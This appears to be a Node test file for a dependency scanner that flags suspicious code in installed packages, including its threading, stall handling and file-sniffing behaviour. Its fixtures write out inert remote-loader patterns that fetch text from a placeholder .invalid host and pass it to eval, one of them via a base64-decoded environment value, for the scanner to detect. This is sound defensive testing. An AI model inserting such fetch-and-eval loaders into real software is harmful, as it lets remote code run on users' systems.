import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { InstalledSession } from '../../src/analysis/installed/session.ts';
import type { InstalledPass, SessionOptions } from '../../src/analysis/installed/session.ts';
import { PendingSniffEntry } from '../../src/fs/walk.ts';
import type { FileEntry } from '../../src/fs/walk.ts';

const tmp = mkdtempSync(join(tmpdir(), 'airlock-installed-'));
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

function file(name: string, body: string | Buffer): FileEntry {
  writeFileSync(join(tmp, name), body);
  return { path: name, size: statSync(join(tmp, name)).size, type: 'file', content: 'text', encoding: 'utf8', inNodeModules: true };
}

// Inert shapes: endpoints under .invalid, nothing runs.
const files: FileEntry[] = [
  file('loader.js', "const r = await fetch('https://cfg.example.invalid/x'); eval(await r.text());\n"),
  file('obf.js', "var _0x1a2b = ['a', 'b']; function _0x3c(i) { return _0x1a2b[i]; }\n"),
  file('plain.js', 'module.exports = function add(a, b) { return a + b; };\n'),
  file('env.js', 'const u = atob(process.env.DEV_API_KEY); fetch(u).then(r => r.text()).then(eval);\n'),
  file('run.woff2', 'global.x = 1;\n'),
  file('notes.md', 'Just notes.\n'),
  ...Array.from({ length: 30 }, (_, i) => file(`f${i}.js`, `exports.v${i} = ${i};\n`.repeat(50))),
];

interface Outcome {
  pass: InstalledPass;
  errors: [string, string][];
}

async function run(entries: FileEntry[], options: SessionOptions, forced: string[] = [], env: [string, string][] = []): Promise<Outcome> {
  const session = new InstalledSession(tmp, undefined, options);
  for (const e of entries) session.add(e);
  const errors: [string, string][] = [];
  const pass = await session.finish({
    runsAsJs: new Set(forced),
    env,
    error: (message, path) => errors.push([path, message]),
  });
  return { pass, errors };
}

describe('the installed-files pass', () => {
  it('gates each file, analyses the ones the dataflow rules want, and reports the unreadable', async () => {
    const gone: FileEntry = { ...file('gone.js', 'x'), size: 10 };
    rmSync(join(tmp, 'gone.js'));
    const { pass, errors } = await run([...files, gone], { threads: 1 });
    assert.ok(pass.code.get('loader.js')?.sinks.some(s => s.kind === 'eval'));
    assert.ok(pass.text.get('obf.js'), 'an obfuscator token calls for text facts');
    assert.equal(pass.code.has('plain.js'), false);
    assert.equal(pass.text.has('plain.js'), false);
    assert.ok(pass.codeSkipped >= 31);
    assert.equal(pass.code.has('run.woff2'), false, 'not JavaScript unless a surface runs it');
    assert.deepEqual(
      errors.map(([p, m]) => [p, m.split(':')[0]]),
      [['gone.js', 'unreadable']],
    );
  });

  it('analyses what a surface runs, whatever its name, and uses the project’s .env values', async () => {
    const encoded = Buffer.from('https://cfg.example.invalid/payload').toString('base64');
    const { pass } = await run(files, { threads: 1 }, ['run.woff2'], [['DEV_API_KEY', encoded]]);
    assert.ok(pass.code.has('run.woff2'));
    const flows = JSON.stringify(pass.code.get('env.js'));
    assert.ok(flows.includes('cfg.example.invalid/payload'), 'the decoded .env value is carried into the dependency');
  });

  it('gives the same results in worker threads as in the calling thread', async () => {
    const here = await run(files, { threads: 1 }, ['run.woff2']);
    const pooled = await run(files, { threads: 2, minFiles: 0 }, ['run.woff2']);
    assert.deepEqual(pooled, here);
  });

  it('settles the size and sniff of files the walk left, reading a big binary no further than its head', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200_000, 1)]);
    writeFileSync(join(tmp, 'big.png'), png);
    writeFileSync(join(tmp, 'big.js'), `var _0x1a = ['a'];\n${'exports.x = 1;\n'.repeat(8000)}`);
    writeFileSync(join(tmp, 'small.js'), 'exports.x = 1;\n');
    writeFileSync(join(tmp, 'empty.js'), '');
    const [binary, text, small, empty] = ['big.png', 'big.js', 'small.js', 'empty.js'].map(
      name => new PendingSniffEntry(name, join(tmp, name)),
    );
    assert.ok(binary && text && small && empty);
    for (const threads of [1, 2]) {
      const entries: PendingSniffEntry[] = [binary, text, small, empty].map(e => new PendingSniffEntry(e.path, e.abs));
      const { pass } = await run(entries, { threads, minFiles: 0 });
      for (const e of entries) {
        assert.ok(e.sniffed && e.sized, `${e.path} settled by the pass`);
        assert.equal(e.size, statSync(e.abs).size, e.path);
      }
      assert.deepEqual(
        entries.map(e => [e.content, e.magic]),
        [
          ['binary', 'png'],
          ['text', undefined],
          ['text', undefined],
          ['empty', undefined],
        ],
      );
      assert.ok(pass.text.get('big.js')?.obfuscation, 'the whole text file was read and checked');
    }
    // Asked before the pass, the values are found on the spot, the same.
    assert.deepEqual(
      [binary, text, small, empty].map(e => [e.size, e.content]),
      [
        [png.length, 'binary'],
        [statSync(text.abs).size, 'text'],
        [15, 'text'],
        [0, 'empty'],
      ],
    );
  });

  it('analyses pathologically nested code without overflowing a stack, in workers and here', async () => {
    const deep = file('deep.js', `var r = fetch(u); eval(${'['.repeat(30_000)}r${']'.repeat(30_000)});\n`);
    for (const options of [{ threads: 1 }, { threads: 2, minFiles: 0 }]) {
      const { pass, errors } = await run([deep], options);
      assert.ok(pass.code.has('deep.js'), JSON.stringify(errors));
      assert.deepEqual(
        errors.filter(([, m]) => !m.startsWith('deeply nested')),
        [],
      );
    }
  });

  it('does not wait on a FIFO swapped in for a file', async () => {
    execFileSync('mkfifo', [join(tmp, 'swapped.js')]);
    const { errors } = await run([{ path: 'swapped.js', size: 100, type: 'file', content: 'text', inNodeModules: true }], { threads: 1 });
    assert.match(errors[0]?.[1] ?? '', /^unreadable: /);
  });

  it('stops a worker that stalls on a file, reports that file and finishes the rest', async () => {
    const heavy = file('heavy.js', `var a = fetch(u); eval(a);\n${'function f(x) { return eval(x + fetch(x)); }\n'.repeat(1400)}`);
    // Enough files for several batches per worker: the batches a lost worker held are redone.
    const filler = Array.from({ length: 2600 }, (_, i) => file(`g${i}.js`, `exports.g = ${i};\n`));
    const here = await run([heavy, ...files, ...filler], { threads: 1 });
    const pooled = await run([heavy, ...files, ...filler], { threads: 2, minFiles: 0, stallMs: 1 });
    const stalled = new Set(pooled.errors.filter(([, m]) => m.includes('took longer than')).map(([p]) => p));
    assert.ok(stalled.has('heavy.js'), 'the heavy file is reported');
    assert.deepEqual(
      pooled.errors.filter(([p]) => !stalled.has(p)),
      [],
      'every other file was processed',
    );
    // Each file counted once: a stalled file has its error instead of its result.
    const skippedHere = [...stalled].filter(p => p.endsWith('.js') && !here.pass.code.has(p)).length;
    assert.equal(pooled.pass.codeSkipped, here.pass.codeSkipped - skippedHere);
    for (const [path, facts] of here.pass.code) if (!stalled.has(path)) assert.deepEqual(pooled.pass.code.get(path), facts, path);
    for (const [path, facts] of here.pass.text) if (!stalled.has(path)) assert.deepEqual(pooled.pass.text.get(path), facts, path);
  });
});
